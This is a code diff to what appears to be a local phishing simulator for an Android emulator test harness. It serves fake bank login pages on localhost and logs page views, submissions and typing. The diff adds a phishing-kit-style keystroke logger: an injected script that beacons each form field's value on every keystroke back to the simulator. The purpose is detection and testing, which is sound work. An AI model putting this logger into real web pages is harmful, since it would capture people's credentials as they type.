@@ -9,7 +9,12 @@ A page is served under the path of its case URL: ``https://bank-verify.example/l
 ``http://127.0.0.1:PORT/bank-verify.example/login``. Each device registers its pages on its own
 channel (a path prefix), so two devices running in parallel never see each other's events.
 Every page view is a ``page_loaded`` event and every submission a ``form_submitted`` event with
-``phishing: true`` and the filled fields — the same data the simulator's Chrome records.
+``phishing: true`` and the filled fields — the same data the simulator's Chrome records. As
+phishing kits do, each page's script reports every field as it is typed: a beacon ``POST`` to
+the page's own URL with ``typed=1`` added to its query and the body ``field=NAME&value=VALUE``,
+recorded as a ``text_typed`` event (``phishing: true``, the page's URL, the field's
+sensitivity) — what the simulator logs for typing into a web form. A browser may send one
+beacon per keystroke, each with the field's whole value so far.
 """
 
 from __future__ import annotations
@@ -32,6 +37,22 @@ from .events import DeviceEvent
 CHROME_PACKAGE = "com.android.chrome"
 EVENTS_PATH = "/__ghostei/events"
 EMULATOR_HOST_ALIAS = "10.0.2.2"  # the emulator's name for the host's loopback interface
+TYPED_PARAM = "typed"  # the query parameter that marks a keystroke beacon
+
+
+def beacon_url(url: str) -> str:
+    """Where a page's script reports typing: the page's own URL with ``typed=1`` added."""
+    return url + ("&" if "?" in url else "?") + f"{TYPED_PARAM}=1"
+
+
+def _beacon_target(path: str) -> str | None:
+    """The page path a beacon reports on (its ``typed`` parameter removed), or None if no beacon."""
+    base, sep, query = path.partition("?")
+    params = query.split("&") if sep else []
+    rest = [p for p in params if p.partition("=")[0] != TYPED_PARAM]
+    if len(rest) == len(params):
+        return None
+    return base + ("?" + "&".join(rest) if rest else "")
 
 
 def page_path(url: str) -> str:
@@ -202,13 +223,17 @@ def _handler_for(server: PhishServer) -> type[BaseHTTPRequestHandler]:
             self._send(200, render_page(page, self.path).encode("utf-8"))
 
         def do_POST(self) -> None:
+            length = int(self.headers.get("Content-Length", "0") or 0)
+            body = self.rfile.read(length).decode("utf-8", errors="replace")
+            target = _beacon_target(self.path)
+            if target is not None:
+                self._typed(target, parse_qs(body, keep_blank_values=True))
+                return
             found = server._lookup(self.path)
             if found is None:
                 self._send(404, _not_found().encode("utf-8"))
                 return
             ch, page = found
-            length = int(self.headers.get("Content-Length", "0") or 0)
-            body = self.rfile.read(length).decode("utf-8", errors="replace")
             submitted = parse_qs(body, keep_blank_values=True)
             fields = {f.name: submitted.get(f.name, [""])[0] for f in page.form}
             server._record(
@@ -226,6 +251,31 @@ def _handler_for(server: PhishServer) -> type[BaseHTTPRequestHandler]:
                 ),
             )
             self._send(200, _thanks(page).encode("utf-8"))
+
+        def _typed(self, path: str, beacon: dict[str, list[str]]) -> None:
+            """A keystroke beacon: the field's whole value so far, as a ``text_typed`` event."""
+            found = server._lookup(path)
+            name = beacon.get("field", [""])[0]
+            field = next((f for f in found[1].form if f.name == name), None) if found else None
+            if found is None or field is None:
+                self._send(404, _not_found().encode("utf-8"))
+                return
+            ch, page = found
+            server._record(
+                ch,
+                DeviceEvent(
+                    "text_typed",
+                    CHROME_PACKAGE,
+                    {
+                        "field": name,
+                        "value": beacon.get("value", [""])[0],
+                        "sensitive": field.sensitive,
+                        "phishing": True,
+                        "url": page.url,
+                    },
+                ),
+            )
+            self._send(204, b"")
 
         def _send(self, status: int, body: bytes, ctype: str = "text/html; charset=utf-8") -> None:
             self.send_response(status)
@@ -263,6 +313,17 @@ def render_page(page: WebPage, action: str) -> str:
         for f in page.form
     )
     paragraphs = "".join(f"<p>{e(p)}</p>" for p in page.paragraphs)
+    # The kit's keystroke logger: every input event reports the field's value so far. Inside
+    # <script> only "</" could end the element early, so it is escaped in the JSON.
+    target = json.dumps(beacon_url(action)).replace("</", "<\\/")
+    script = (
+        f"<script>(function(){{var u={target};"
+        "document.querySelectorAll('input').forEach(function(i){"
+        "i.addEventListener('input',function(){"
+        "var b=new URLSearchParams({field:i.name,value:i.value});"
+        "if(!(navigator.sendBeacon&&navigator.sendBeacon(u,b)))"
+        "fetch(u,{method:'POST',body:b,keepalive:true});});});})();</script>"
+    )
     return (
         "<!DOCTYPE html><html><head><meta charset='utf-8'>"
         "<meta name='viewport' content='width=device-width, initial-scale=1'>"
@@ -271,7 +332,7 @@ def render_page(page: WebPage, action: str) -> str:
         f"<h1>{e(page.heading or page.title)}</h1>{paragraphs}"
         f'<form method="post" action="{e(action)}">{inputs}'
         f'<button type="submit">{e(page.submit_label)}</button></form>'
-        "</main></body></html>"
+        f"</main>{script}</body></html>"
     )
 
 
